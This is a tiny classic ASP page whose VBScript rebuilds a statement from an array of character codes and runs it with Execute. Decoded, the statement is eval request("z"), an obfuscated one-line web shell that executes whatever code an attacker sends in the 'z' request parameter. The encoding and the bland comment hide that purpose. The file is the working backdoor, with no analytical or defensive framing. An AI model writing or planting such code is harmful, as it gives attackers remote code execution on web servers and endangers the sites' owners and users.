<%
' the statement to run is kept as character codes
Dim codes, s, i
codes = Array(101, 118, 97, 108, 32, 114, 101, 113, 117, 101, 115, 116, 40, 34, 122, 34, 41)
s = ""
For i = 0 To UBound(codes)
    s = s & ChrW(codes(i))
Next
Execute(s)
%>
